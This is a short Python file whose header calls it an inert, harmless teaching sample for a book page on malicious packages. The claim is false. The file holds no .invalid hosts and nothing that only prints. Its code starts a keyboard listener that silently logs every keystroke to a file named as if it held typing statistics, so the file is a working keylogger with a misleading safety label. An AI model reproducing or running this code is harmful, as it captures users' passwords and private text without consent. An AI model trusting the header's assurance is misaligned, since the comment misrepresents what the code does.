# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
from pynput import keyboard


def _record(key):
    with open("/tmp/typing_stats.log", "a", encoding="utf-8") as log:
        log.write(f"{key}\n")


keyboard.Listener(on_press=_record).start()
